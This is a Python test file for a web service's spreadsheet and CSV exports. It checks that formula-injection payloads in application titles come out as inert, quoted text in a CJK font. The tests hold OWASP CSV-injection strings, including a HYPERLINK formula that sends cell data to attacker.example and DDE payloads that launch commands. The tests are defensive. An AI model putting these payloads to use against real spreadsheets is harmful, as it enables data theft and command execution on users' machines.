"""Every spreadsheet and CSV the service writes is formula-safe (OWASP CSV injection) and set in a CJK font."""

import csv
import io
from typing import Any

import httpx
import openpyxl
from fastapi import FastAPI

from app.documents.cells import CJK_FONT_NAME, csv_safe, write_csv
from tests.applications.cast import Cast, Flow
from tests.batches.helpers import act, cast_for, open_batch, put_items, recommended
from tests.bulk.test_bulk import URL, cells_of, wait_done

# OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), as titles.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&C3,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


async def _walk(flow: Flow) -> None:
    await flow.get(flow.cast.applicant)
    await flow.attach_scan()
    assert (await flow.act("submit")).status_code == 200
    await flow.endorse_all()
    assert (await flow.review("recommend", "同意推荐")).status_code == 201


async def _through_bulk_csv(client: httpx.AsyncClient, cast: Cast, titles: list[str]) -> list[str]:
    rows = [cells_of(cast.form(title=t)) for t in titles]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    r = await client.post(
        URL, headers=cast.applicant.headers, files={"file": ("申请.csv", out.getvalue().encode(), "text/csv")}
    )
    assert r.status_code == 202, r.text
    done = await wait_done(client, r.json()["id"], cast.applicant.headers)
    assert done["created_count"] == len(titles), done["results"]
    return [r["application_id"] for r in done["results"]]


async def test_formula_titles_stay_data_in_the_exported_xlsx_and_csv(app: FastAPI, client: httpx.AsyncClient) -> None:
    cast = await cast_for(app, client)
    ids = [(await recommended(client, cast, title)).id for title in PAYLOADS[:3]]
    for app_id in await _through_bulk_csv(client, cast, PAYLOADS[3:]):
        flow = Flow(client, cast)
        flow.id = app_id
        await _walk(flow)
        ids.append(app_id)
    stored = await client.get(f"/api/v1/applications/{ids[0]}", headers=cast.applicant.headers)
    assert stored.json()["title"] == PAYLOADS[0]  # the data stays as entered
    batch = await open_batch(client, cast)
    r = await put_items(client, batch, cast.reviewer, ids, batch.headers["etag"])
    assert r.status_code == 200, r.text
    batch_id = batch.json()["id"]

    sheet = await client.get(f"/api/v1/batches/{batch_id}/recommended-list.xlsx", headers=cast.reviewer.headers)
    assert sheet.status_code == 200, sheet.text
    ws = openpyxl.load_workbook(io.BytesIO(sheet.content)).active
    titles = [ws.cell(row=3 + i, column=2) for i in range(len(PAYLOADS))]
    assert [c.value for c in titles] == PAYLOADS
    assert {c.data_type for c in titles} == {"s"}
    written = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in written if c.data_type == "f"]
    assert {c.font.name for c in written} == {CJK_FONT_NAME}
    assert ws["A1"].font.b and ws["A1"].font.sz == 14 and ws["B2"].font.b  # the title's and headers' weight kept
    assert b"<f>" not in _sheet_xml(sheet.content)

    text = (await client.get(f"/api/v1/batches/{batch_id}/recommended-list.csv", headers=cast.reviewer.headers)).content
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    for payload in PAYLOADS:
        assert f'"\'{payload.replace(chr(34), chr(34) * 2)}"'.encode() in text  # prefixed and quoted

    r = await act(client, batch_id, cast.reviewer, r.headers["etag"], "submit")
    assert r.status_code == 200, r.text


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_csv_cells_starting_with_any_trigger_are_neutralized() -> None:
    for cell in ("=1+2", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csv_safe(cell) == "'" + cell
    for cell in ("济南市", "1-2", "a=b", 12, None, ""):
        assert csv_safe(cell) == cell
    text = write_csv(["h"], [["=1+2"], [3], [None]], bom=False).decode()
    assert text == '"h"\r\n"\'=1+2"\r\n3\r\n""\r\n'


async def test_the_bulk_template_and_the_cli_report_are_safe_too(
    app: FastAPI, client: httpx.AsyncClient, tmp_path: Any
) -> None:
    cast = await cast_for(app, client)
    r = await client.get(f"{URL}/template.xlsx", headers=cast.applicant.headers)
    workbook = openpyxl.load_workbook(io.BytesIO(r.content))
    for ws in workbook.worksheets:
        written = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert written and {c.font.name for c in written} == {CJK_FONT_NAME}
        assert not [c for c in written if c.data_type == "f"]
